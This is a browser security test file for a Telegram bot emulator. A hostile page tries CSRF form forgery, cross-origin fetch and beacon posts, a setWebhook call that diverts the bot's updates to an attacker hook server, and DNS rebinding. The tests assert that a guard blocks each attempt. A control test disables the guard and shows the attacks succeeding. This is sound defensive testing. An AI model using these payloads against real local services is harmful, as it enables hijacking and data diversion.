"""Another page in the same browser attacks the emulator, by all that a page can do."""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

from playwright.async_api import Browser, Page, expect
from pytest_asyncio import fixture as shared
from starlette.applications import Starlette
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from bot.config.settings import SANDBOX_TOKEN
from bot.http_server import HttpListener
from sandbox.app import create_app
from sandbox.guard import Guard, new_token
from sandbox.state.telegram import Telegram
from tests.browser.conftest import REBOUND

ADMIN, CUSTOMER = 9001, 1001
HOST = "127.0.0.1"
PATIENCE_S = 20
ATTACK = """<!doctype html><title>elsewhere</title>
<form id="typed" method="post" enctype="text/plain" target="nowhere"
      action="{target}/sandbox/chats/{admin}/send">
  <input name='{{"text":"/by-form","x":"' value='"}}'></form>
<iframe name="nowhere"></iframe><iframe id="framed" src="{target}/"></iframe>
<a id="link" href="{target}/">open</a>
<script>
const done = [];
const ends = (name) => new Promise((end) => {{
  const element = document.querySelector(name);
  element.onload = element.onerror = end;
}});
const text = (words) => ({{ method: "POST", body: JSON.stringify({{ text: words }}) }});
const say = (person) => `{target}/sandbox/chats/${{person}}/send`;
const image = new Image();
document.body.append(image);
window.attacked = (async () => {{
  const framed = ends("#framed"), shown = ends("img"), typed = ends("iframe[name=nowhere]");
  image.src = "{target}/bot{token}/setWebhook?url={here}/hook";
  document.querySelector("#typed").submit();
  await Promise.allSettled([framed, shown, typed]);
  await fetch(say({customer}), {{ ...text("/by-fetch"), mode: "no-cors" }}).catch(() => {{}});
  navigator.sendBeacon(say({customer}), JSON.stringify({{ text: "/by-beacon" }}));
  const headers = {{ "X-Sandbox-Token": "{token}" }};
  const read = await fetch("{target}/sandbox/state", {{ headers }}).then((r) => r.text(), String);
  const socket = new WebSocket("{target}/".replace("http", "ws"));
  await new Promise((end) => {{ socket.onopen = socket.onclose = end; }});
  return {{ read, opened: socket.readyState === 1 }};
}})();
</script>"""


@asynccontextmanager
async def listening(app: Starlette, port: int = 0) -> AsyncIterator[str]:
    """The app on a port of this machine; its URL."""
    listener = HttpListener(host=HOST, port=port)
    listener.start(app)
    yield f"http://{HOST}:{listener.port}"
    await listener.stop()


class Scene:
    """The emulator, the other page, and what the other page has got."""

    def __init__(self, telegram: Telegram, url: str) -> None:
        self.telegram, self.url = telegram, url
        self.diverted: list[bytes] = []
        self.attacker = Starlette(
            routes=[
                Route("/", self._page),
                Route("/hook", self._hook, methods=["POST"]),
            ]
        )
        self.here = ""

    async def _page(self, _: object) -> Response:
        values = {"target": self.url, "here": self.here, "token": SANDBOX_TOKEN}
        return HTMLResponse(ATTACK.format(**values, admin=ADMIN, customer=CUSTOMER))

    async def _hook(self, request) -> Response:
        self.diverted.append(await request.body())
        return Response()

    def texts(self, person: int) -> list[str]:
        """What the emulator believes that the person has typed."""
        return [message.text for message in self.telegram.messages(person)]


@shared(loop_scope="session")
async def scene() -> AsyncIterator[Scene]:
    """The token is one that the attacker knows, so that it alone would not stop anything."""
    telegram = Telegram()
    app = create_app(telegram, token=SANDBOX_TOKEN)
    async with listening(app) as url:
        scene = Scene(telegram, url)
        async with listening(scene.attacker) as here:
            scene.here = here
            yield scene
        await app.close()


@shared(loop_scope="session")
async def page(browser: Browser) -> AsyncIterator[Page]:
    page = await browser.new_page()
    yield page
    await page.close()


async def attacked(page: Page, scene: Scene) -> dict[str, object]:
    """What the page's script has read, once all of its attacks are over."""
    await page.goto(scene.here)
    async with asyncio.timeout(PATIENCE_S):
        found: dict[str, object] = await page.evaluate("() => window.attacked")
    found["framed"] = await page.frames[-1].title()
    await asyncio.sleep(0.2)  # the beacon gets no answer
    return found


async def rebound(page: Page, scene: Scene) -> str:
    """What the browser reads under a foreign name that has come to mean this machine."""
    where = f"http://{REBOUND}:{scene.url.rpartition(':')[2]}/bot{SANDBOX_TOKEN}/getMe"
    answer = await page.goto(where)
    assert answer is not None
    return await answer.text()


async def test_another_page_can_do_nothing(page, scene):
    found = await attacked(page, scene)

    assert (scene.texts(ADMIN), scene.texts(CUSTOMER)) == ([], [])
    assert (scene.telegram.webhook.url, scene.diverted) == ("", [])
    assert "Failed to fetch" in found["read"]
    assert not found["opened"]
    assert found["framed"] != "checkup-bot sandbox"
    assert json.loads(await rebound(page, scene))["error"].startswith("the sandbox answers at")


async def test_a_link_of_another_page_does_not_lead_in(page, scene):
    await page.goto(scene.here)
    await page.click("#link")
    assert await page.title() != "checkup-bot sandbox"

    await page.goto(scene.url)
    assert await page.title() == "checkup-bot sandbox"
    assert SANDBOX_TOKEN not in await page.evaluate("() => document.body.innerText")


async def test_an_open_page_follows_the_emulator_to_its_next_start(page):
    port = 0
    for token in (new_token(), new_token()):
        app = create_app(Telegram(), token=token)
        async with listening(app, port) as url:
            if not port:
                await page.goto(url)
            port = int(url.rpartition(":")[2])
            meta = page.locator("meta[name=sandbox-token]")
            await expect(meta).to_have_attribute("content", token)
            await expect(page.get_by_test_id("clock-now")).to_contain_text(":")
            await app.close()


async def test_without_the_guard_the_same_page_takes_over(page, scene, monkeypatch):
    """Control."""
    monkeypatch.setattr(Guard, "refusal", lambda *_: None)

    await attacked(page, scene)

    assert "/by-fetch" in scene.texts(CUSTOMER)
    assert "/by-beacon" in scene.texts(CUSTOMER)
    assert scene.texts(ADMIN) == ["/by-form"]
    assert scene.telegram.webhook.url == f"{scene.here}/hook"
    assert b"/by-fetch" in b"".join(scene.diverted)
    assert '"is_bot": true' in await rebound(page, scene)
